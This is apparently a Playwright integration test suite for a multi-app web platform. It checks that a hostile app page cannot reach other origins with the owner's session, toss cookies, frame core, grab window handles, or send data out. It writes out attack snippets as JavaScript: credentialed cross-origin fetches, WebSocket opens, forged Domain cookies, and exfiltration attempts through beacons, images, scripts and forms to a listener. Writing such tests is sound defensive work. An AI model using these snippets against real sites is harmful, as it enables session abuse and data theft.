"""Attacks that only a real browser shows: what Chromium itself lets an app's hostile page do to its siblings and to core."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, BrowserContext, Page

from tests.integration.node.front import FrontDoor, served

EVIL_PAGE = "<!doctype html><title>evil</title><p>evil</p>"


@pytest_asyncio.fixture(loop_scope="module")
async def visitor(front: FrontDoor, browser: Browser) -> AsyncIterator[BrowserContext]:
    """A browser that is signed in at core, and at the app `photos`."""
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(f"http://{front.host()}{front.link()}")
    await page.goto(f"http://{front.host('photos')}/")
    assert await page.locator("body").inner_text()
    await page.close()
    yield context
    await context.close()


@pytest_asyncio.fixture(loop_scope="module")
async def app_page(front: FrontDoor, visitor: BrowserContext) -> Page:
    """A page of the app, in which its own script may do as it likes."""
    page = await visitor.new_page()
    await page.goto(f"http://{front.host('photos')}/")
    return page


FETCH = """async ([url, options]) => {
  try { const r = await fetch(url, options); return [r.type, r.status, (await r.text()).slice(0, 200)] }
  catch (error) { return ['error', 0, String(error)] }
}"""
SOCKET = """url => new Promise(done => {
  let socket; try { socket = new WebSocket(url, 'second') } catch (error) { return done('refused') }
  socket.onopen = () => done('open'); socket.onerror = () => done('refused')
})"""


async def test_attack_an_apps_page_reaches_no_other_origin_with_the_owners_session(
    front: FrontDoor, app_page: Page
) -> None:
    asked = {"query": "{ revision }"}
    for host in ("", "asleep", "console"):
        for path in ("/", "/graphql", "/_pcloud/graphql", "/api/graphql"):
            for options in ({"credentials": "include"}, {"credentials": "include", "mode": "no-cors"},
                            {"method": "POST", "credentials": "include", "mode": "no-cors", "body": str(asked)}):  # fmt: skip
                kind, status, _ = await app_page.evaluate(FETCH, [f"http://{front.host(host)}{path}", options])
                assert (kind, status) == ("error", 0), (host, path, options)


async def test_attack_an_apps_page_opens_no_websocket_but_its_own(front: FrontDoor, app_page: Page) -> None:
    for host, path in (
        ("", "/graphql"),
        ("", "/graphql/photos"),
        ("console", "/api/graphql"),
        ("asleep", "/_pcloud/graphql"),
    ):
        assert await app_page.evaluate(SOCKET, f"ws://{front.host(host)}{path}") == "refused"
    assert await app_page.evaluate(SOCKET, f"ws://{front.host('photos')}/echo") == "open"


async def test_attack_a_foreign_page_that_no_policy_binds_gets_no_further(
    front: FrontDoor, visitor: BrowserContext
) -> None:
    """Without the policy that core puts on apps' pages, the checks of each request hold."""

    async def evil(_: web.Request) -> web.Response:
        return web.Response(text=EVIL_PAGE, content_type="text/html")

    application = web.Application()
    application.router.add_get("/", evil)
    async with served(application) as port:
        page = await visitor.new_page()
        for name in ("evil.localhost", "localhost", "127.0.0.1"):  # another port of this machine is another origin too
            await page.goto(f"http://{name}:{port}/")
            for host, path in (
                ("", "/graphql"),
                ("photos", "/_pcloud/graphql"),
                ("photos", "/"),
                ("console", "/api/apps"),
            ):
                url = f"http://{front.host(host)}{path}"
                kind, status, _ = await page.evaluate(FETCH, [url, {"credentials": "include"}])
                assert (kind, status) == ("error", 0), "the answer can't be read"
                assert await page.evaluate(SOCKET, url.replace("http", "ws")) == "refused"
            loaded = await page.evaluate(
                """url => new Promise(done => { const one = new Image(); one.onload = () => done(true);
                one.onerror = () => done(false); one.src = url })""",
                f"http://{front.host('photos')}/picture",
            )
            assert not loaded


async def test_attack_no_page_frames_core_or_an_app(front: FrontDoor, app_page: Page) -> None:
    for host in ("", "asleep", "console"):
        shown = await app_page.evaluate(
            """url => new Promise(done => { const one = document.createElement('iframe'); one.src = url;
            one.onload = () => { try { done(one.contentDocument ? one.contentDocument.URL : 'opaque') } catch { done('opaque') } };
            document.body.append(one); setTimeout(() => done('nothing'), 3000) })""",
            f"http://{front.host(host)}/",
        )
        assert shown in ("opaque", "nothing")
        texts = [frame.url for frame in app_page.frames[1:]]
        assert all("chrome-error" in url or url in ("", "about:blank") for url in texts), texts


async def test_attack_a_page_can_set_no_cookie_for_its_siblings(front: FrontDoor, app_page: Page) -> None:
    """Cookie tossing: browsers treat each name below localhost as a separate site; core strips cookies that pass anyway."""
    name = front.statements.cookie
    await app_page.evaluate(
        f"""() => {{ for (const host of ['localhost', '.localhost', 'asleep.localhost'])
        document.cookie = `{name}=tossed; Domain=${{host}}; Path=/`; document.cookie = 'mine=1';
        document.cookie = '{name}=own; path=/x' }}"""
    )
    page = await app_page.context.new_page()
    for host in ("", "console"):
        await page.goto(f"http://{front.host(host)}/")
        cookies = await app_page.context.cookies(f"http://{front.host(host)}/")
        assert all("tossed" not in str(cookie) and cookie["name"] != "mine" for cookie in cookies)
    await page.goto(f"http://{front.host('photos')}/x/y")
    told = await page.locator("body").inner_text()
    assert name not in told and "tossed" not in told and "mine=1" in told, "signed in still, and no cookie of core's"


async def test_attack_a_page_sends_nothing_out_of_its_origin(front: FrontDoor, app_page: Page) -> None:
    """What an app's sandbox keeps it from sending, its page can't send for it."""
    heard: list[str] = []

    async def ear(request: web.Request) -> web.Response:
        heard.append(request.path)
        return web.Response(text="", headers={"Access-Control-Allow-Origin": "*"})

    application = web.Application()
    application.router.add_route("*", "/{path:.*}", ear)
    async with served(application) as port:
        outside = f"http://127.0.0.1:{port}"
        await app_page.evaluate(
            """async outside => {
              await Promise.allSettled([fetch(outside + '/fetch', {mode: 'no-cors'}),
                fetch(outside + '/post', {method: 'POST', mode: 'no-cors', body: 'x'})]);
              navigator.sendBeacon(outside + '/beacon', 'x');
              const add = (tag, set) => { const one = document.createElement(tag); Object.assign(one, set);
                document.body.append(one); return one };
              add('img', {src: outside + '/img'}); add('script', {src: outside + '/script'}); add('iframe', {src: outside + '/frame'});
              add('link', {rel: 'stylesheet', href: outside + '/css'}); add('link', {rel: 'prefetch', href: outside + '/prefetch'});
              add('audio', {src: outside + '/audio'}); add('object', {data: outside + '/object'});
              add('form', {action: outside + '/form', method: 'post'}).submit();
              try { new EventSource(outside + '/events') } catch {}
              try { new WebSocket(outside.replace('http', 'ws') + '/ws') } catch {}
              const inside = new Image(); const done = new Promise(r => { inside.onload = inside.onerror = r }); inside.src = '/last';
              await done
            }""",
            outside,
        )
        assert heard == []


async def test_attack_an_inline_script_of_an_app_without_a_policy_does_not_run(
    front: FrontDoor, app_page: Page
) -> None:
    ran = await app_page.evaluate(
        """() => { const one = document.createElement('script'); one.textContent = 'window.ran = 1';
        document.body.append(one); return window.ran ?? 0 }"""
    )
    assert ran == 0


async def test_attack_no_window_of_another_origin_is_at_hand(front: FrontDoor, app_page: Page) -> None:
    """A page can open core's in a new window, and then has no handle to it: the windows are of different groups."""
    async with app_page.context.expect_page() as opened:
        await app_page.evaluate("url => { window.other = window.open(url) }", f"http://{front.host()}/")
    other = await opened.value
    await other.wait_for_load_state()
    await app_page.wait_for_function("() => window.other.closed")
    assert await other.evaluate("() => window.opener === null")
